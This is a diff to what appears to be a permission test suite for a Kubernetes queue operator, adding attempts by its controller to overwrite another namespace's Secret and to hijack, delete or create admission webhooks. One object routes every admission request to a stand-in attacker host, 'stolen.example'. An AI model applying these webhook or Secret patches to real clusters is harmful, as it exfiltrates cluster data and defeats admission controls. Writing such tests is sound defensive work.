@@ -12,6 +12,13 @@ import {
   type Scene,
 } from './scene.ts';
 
+const ASKED_BY_ALL = {
+  clientConfig: { url: 'https://stolen.example' },
+  rules: [{ apiGroups: ['*'], apiVersions: ['*'], operations: ['*'], resources: ['*'] }],
+  sideEffects: 'None',
+  admissionReviewVersions: ['v1'],
+};
+
 export function clusterAttempts({ shop, release }: Scene): Attempt[] {
   const queueReads = attemptBy('queue-controller', true);
   const rbac = '/apis/rbac.authorization.k8s.io/v1';
@@ -30,7 +37,25 @@ export function clusterAttempts({ shop, release }: Scene): Attempt[] {
   const selector = { matchLabels: { a: 'b' } };
   const metadata = { name: 'stolen' };
   const everyone: Actor[] = ['queue-controller', 'workerpool-controller', 'autoscaler', 'uninstall'];
+  const configurations = '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations';
+  const webhooks = `${release}-rq-queue-controller-webhook`;
+  const validate = `validate.queues.redis-queue.io`;
   return [
+    attemptBy('queue-controller')(
+      'writes the Secret of another',
+      patch(core(shop, 'secrets', 'payments'), { data: { key: '' } }),
+    ),
+    attemptBy('queue-controller')(
+      'has its webhook asked by everybody',
+      patch(`${configurations}/${webhooks}`, {
+        webhooks: [{ name: validate, ...ASKED_BY_ALL }],
+      }),
+    ),
+    attemptBy('queue-controller')('takes its webhook away', patch(`${configurations}/${webhooks}`, { webhooks: [] })),
+    attemptBy('queue-controller')(
+      'makes a webhook of its own',
+      post(configurations, { metadata, webhooks: [{ name: validate, ...ASKED_BY_ALL }] }),
+    ),
     ...everyone.flatMap((who) => [
       attemptBy(who)(
         'makes somebody an administrator',
